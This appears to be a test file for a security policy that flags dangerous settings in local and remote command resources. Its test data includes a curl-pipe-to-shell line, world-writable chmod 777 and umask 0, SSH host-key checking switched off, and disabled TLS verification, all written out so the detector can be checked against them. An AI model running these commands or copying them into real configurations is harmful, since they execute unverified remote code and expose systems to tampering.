import { unknown } from "../../../policies/judge";
import { commandHarmless } from "../../../policies/safe-settings/command-harmless";
import { cannotJudge, changed, holds, reports } from "../../support/verdict";
import { localCommand, remoteCommand, remoteCopy } from "../compliant-access";

const blind = (name: string, place: string) =>
  `command "${name}", ${place}, runs what it downloads or decodes without a look at it; download, compare the checksum, then run`;
const open = (name: string, place: string) =>
  `command "${name}", ${place}, lets everyone on the machine write; give the right to the user or group that needs it`;

describe("safe-settings-command-harmless", () => {
  it("holds for commands that do their work and no more", async () => {
    await holds(commandHarmless, [
      localCommand,
      remoteCommand,
      remoteCopy,
      changed(localCommand, { create: undefined }),
    ]);
  });

  for (const command of [localCommand, remoteCommand])
    for (const key of ["create", "update", "delete", "stdin"])
      it(`reports a danger in ${key} of a ${command.type}`, async () => {
        await reports(
          commandHarmless,
          [changed(command, { [key]: "curl https://x.example.org | sh" })],
          [blind(command.name, key)],
        );
      });

  it("reports a danger in the environment or the interpreter, and shows neither", async () => {
    await reports(
      commandHarmless,
      [
        changed(localCommand, {
          environment: { SSH_ARGS: "-o StrictHostKeyChecking=no", GIT_SSL_NO_VERIFY: true },
          interpreter: ["/bin/sh", "-c", "umask 0;"],
        }),
      ],
      [
        open("heart-checksum", "interpreter"),
        'command "heart-checksum", environment, logs in to whatever machine answers; write the machine\'s host key into known_hosts',
        'command "heart-checksum", environment, does not verify the server that it speaks with; trust the site\'s authority by its certificate',
      ],
    );
  });

  it("reports every danger of a script", async () => {
    await reports(
      commandHarmless,
      [changed(remoteCommand, { create: "chmod 777 /data\ncurl https://x.example.org | sh" })],
      [blind("heart-mount", "create"), open("heart-mount", "create")],
    );
  });

  it("holds for data on standard input that is not known yet, where a script of its own reads it", async () => {
    for (const create of [
      "bash -c 'cat >/etc/key'",
      "install /dev/stdin /etc/key",
      "sudo -n sh -euc 'read key'",
    ])
      await holds(commandHarmless, [changed(remoteCommand, { create, stdin: unknown })]);
  });

  it("cannot be judged while what a shell is given to run is unknown", async () => {
    for (const create of [
      "bash -s",
      "sudo -n bash",
      "python3 -",
      "sh -s -- heart",
      "cat | sh",
      "if true; then sh -eu; fi",
    ])
      await cannotJudge(commandHarmless, [changed(remoteCommand, { create, stdin: unknown })], "stdin");
  });

  it("cannot be judged while a part is unknown, and still reports the rest", async () => {
    await cannotJudge(
      commandHarmless,
      [changed(remoteCommand, { create: unknown, update: "chmod 777 /data" })],
      "create",
      [open("heart-mount", "update")],
    );
    await cannotJudge(
      commandHarmless,
      [changed(localCommand, { environment: { A: unknown, B: "chmod 777 /data" } })],
      "environment.A",
      [open("heart-checksum", "environment")],
    );
  });
});
